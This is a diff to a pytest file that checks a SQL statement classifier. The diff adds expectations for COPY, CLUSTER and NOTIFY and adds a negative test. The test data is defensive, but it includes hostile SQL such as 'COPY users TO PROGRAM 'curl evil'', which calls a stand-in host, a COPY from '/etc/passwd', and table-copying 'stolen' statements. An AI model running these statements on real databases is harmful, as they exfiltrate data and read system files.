@@ -19,11 +19,11 @@ SEES_THROUGH = [
     ("EXPLAIN ANALYZE DELETE FROM users", {"explain", "delete"}, {"public.users"}),
     ("EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET a = 1", {"explain", "update"}, {"public.users"}),
     ("PREPARE p AS DELETE FROM users", {"prepare", "delete"}, {"public.users"}),
-    ("COPY users FROM STDIN", {"copy_from"}, {"public.users"}),
+    ("COPY users FROM STDIN", {"copy_from", "insert"}, {"public.users"}),  # it inserts rows
     ("COPY (WITH d AS (DELETE FROM users RETURNING 1) SELECT * FROM d) TO STDOUT", {"copy_to", "delete"},
      {"public.users"}),
     ("COPY users TO PROGRAM 'curl evil'", {"copy_program"}, set()),
-    ("COPY users FROM '/etc/passwd'", {"copy_file"}, {"public.users"}),
+    ("COPY users FROM '/etc/passwd'", {"copy_file", "insert"}, {"public.users"}),
     ("SELECT * INTO stolen FROM users", {"ddl"}, {"public.stolen"}),
     ("CREATE TABLE stolen AS SELECT * FROM users", {"ddl"}, {"public.stolen"}),
     ("DO $$BEGIN DELETE FROM users; END$$", {"do"}, set()),
@@ -52,6 +52,8 @@ SEES_THROUGH = [
     ("BEGIN; INSERT INTO users VALUES (1); COMMIT", {"transaction", "insert"}, {"public.users"}),
     ("LOCK TABLE users", {"lock"}, set()),
     ("VACUUM users", {"maintenance"}, set()),
+    ("CLUSTER users USING users_pkey", {"maintenance", "ddl"}, set()),  # = ALTER TABLE ... CLUSTER ON
+    ("NOTIFY jobs, 'run'", {"listen", "side_effect"}, set()),  # other sessions act on it
     ("CALL p()", {"call"}, set()),
     ("sel ect broken", {"unknown"}, set()),
 ]
@@ -62,6 +64,13 @@ def test_sees_through(sql, kinds, writes):
     a = analyze_sql(sql)
     assert kinds <= a.kinds, a
     assert writes <= a.writes, a
+
+
+@pytest.mark.parametrize("sql, absent", [
+    ("COPY users TO STDOUT", "insert"), ("CLUSTER users", "ddl"), ("CLUSTER", "ddl"), ("LISTEN jobs", "side_effect"),
+])
+def test_what_other_forms_do_not_do(sql, absent):
+    assert absent not in analyze_sql(sql).kinds
 
 
 # Text that merely mentions a dangerous word: no write, no DDL.
